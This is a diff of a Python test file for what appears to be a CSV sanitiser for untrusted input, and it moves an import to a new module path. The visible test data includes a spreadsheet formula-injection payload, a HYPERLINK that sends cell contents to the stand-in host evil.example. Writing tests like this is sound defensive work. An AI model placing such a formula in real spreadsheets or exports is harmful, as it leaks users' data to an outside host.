@@ -6,7 +6,7 @@ import csv
 import io
 
 import pytest
-from gatekeeper.untrusted import csv_cell, plain_cell, shown
+from gatekeeper.common.untrusted import csv_cell, plain_cell, shown
 
 HOSTILE_CELLS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
